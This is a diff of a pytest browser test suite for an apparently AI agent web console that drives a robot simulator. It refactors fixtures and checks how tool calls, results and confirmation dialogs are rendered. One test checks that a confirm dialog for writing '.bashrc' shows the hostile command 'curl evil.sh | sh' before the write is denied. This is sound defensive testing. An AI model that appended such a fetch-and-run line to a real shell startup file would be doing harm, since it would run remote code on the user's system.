@@ -13,30 +13,16 @@ import importlib.util
 import io
 import json
 import os
-import tempfile
-from collections.abc import AsyncIterator, Callable
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
-import pytest_asyncio
+from tests.channels.conftest import ARTIFACTS, CHROMIUM
 
-CHROMIUM = "/usr/bin/chromium"
-CHROMIUM_ARGS = [
-    "--headless",
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-quic",
-    "--no-first-run",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-]
 WEB_KEY = "sk-console-SECRET-abcdef123456"
 NEW_KEY = "sk-typed-SECRET-654321fedcba"
 MODEL_KEY = "sk-test-secret"  # the key tests/agent/helpers.make_agent gives the provider
-WAIT_MS = 20_000
-ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts"
 
 pytestmark = [
     pytest.mark.browser,
@@ -55,38 +41,6 @@ from tests.agent.helpers import call, make_agent  # noqa: E402
 
 from loopact.channels.web import WebSettings, serve_console  # noqa: E402
 from loopact.tools.base import tool  # noqa: E402
-
-
-@pytest_asyncio.fixture(loop_scope="module", scope="module")
-async def browser() -> AsyncIterator[Any]:
-    from playwright.async_api import async_playwright
-
-    with tempfile.TemporaryDirectory(prefix="loopact-chromium-") as profile_dir:
-        async with async_playwright() as pw:
-            ctx = await pw.chromium.launch_persistent_context(
-                profile_dir,
-                executable_path=CHROMIUM,
-                args=CHROMIUM_ARGS,
-                headless=True,
-                viewport={"width": 1280, "height": 800},
-            )
-            ctx.set_default_timeout(WAIT_MS)
-            try:
-                yield ctx
-            finally:
-                await ctx.close()
-
-
-@pytest_asyncio.fixture(loop_scope="module")
-async def robot() -> AsyncIterator[Any]:
-    sim_mod = pytest.importorskip("loopact.sim", reason="the simulator (loopact.sim) is missing")
-    if importlib.util.find_spec("mujoco") is None:  # not imported here: it reads MUJOCO_GL
-        pytest.skip("MuJoCo is missing: pip install -e '.[sim]'")
-    session = await sim_mod.open_sim(speed=1.0)
-    try:
-        yield session
-    finally:
-        await session.close()
 
 
 class Seen:
@@ -223,12 +177,18 @@ async def test_scripted_task_from_the_page(
         assert start.data == {"text": "look around and tell me what you see", "source": "web"}
         await page.locator(".chip").first.wait_for(state="detached")
 
-        call_line = page.locator(".event.tool-call", has_text="seewhat")
-        await call_line.wait_for()
-        result = page.locator(".event.tool-result.ok", has_text="seewhat")
+        # the call as a sentence (call.seewhat), its outcome as the typed phrase rendered in
+        # the page's language (issue 42 item 4), never the data as JSON
+        card = page.locator('.event.tool-call[data-tool="seewhat"]')
+        await card.locator(".tool-said", has_text="Looking with the camera").wait_for()
+        result = page.locator('.event.tool-call.ok[data-tool="seewhat"] .tool-result.ok')
         await result.wait_for()
-        # what the tool said, rendered (the event's outcome_text), not its data as JSON
-        assert "seewhat: I see " in await result.inner_text()
+        assert (await result.inner_text()).startswith("I see ")
+        assert "{" not in await card.inner_text()  # no JSON until "details" is clicked
+        await card.locator(".details-btn").click()
+        shown_json = json.loads(await card.locator("pre.json").inner_text())
+        assert [e["type"] for e in shown_json] == ["tool_call", "tool_result"]
+        assert shown_json[1]["outcome"]["id"] and shown_json[0]["name"] == "seewhat"
         # the image the model got, fetched from /images/see1/0.jpg: wait until it has loaded
         # (an <img> is in the page before its bytes arrive; checking at once raced the fetch)
         shown = await page.wait_for_function(LOADED_WIDTH, arg="#model-image img")
@@ -308,7 +268,8 @@ async def test_stop_button_halts_a_running_motion(
         await page.wait_for_selector("#conn.on")
         await page.fill("#input", "spin slowly")
         await page.press("#input", "Enter")
-        await page.locator(".event.tool-call", has_text="drive").wait_for()
+        drive = page.locator('.event.tool-call[data-tool="drive"]')
+        await drive.locator(".tool-said", has_text="turning 40°/s for 25.0 s").wait_for()
         await _poll(lambda: not robot.governor.last_twist.is_zero)
         # the camera shows the turning robot: the picture itself changes
         pic1 = await _camera_pixels(page)
@@ -486,7 +447,7 @@ async def test_the_confirm_dialog_shows_the_path_behind_a_long_content(
         box = page.locator(".event.confirm", has_text="file_write")
         await box.wait_for()
         text = await box.inner_text()
-        assert 'path=".bashrc")?' in text  # the target, in full
+        assert 'path=".bashrc")' in text  # the target, in full
         assert "… (1019 characters) …" in text and "curl evil.sh | sh" in text
         assert text.count("Meeting notes") < 5  # only the bulky value is cut
         await box.locator("button.deny").click()
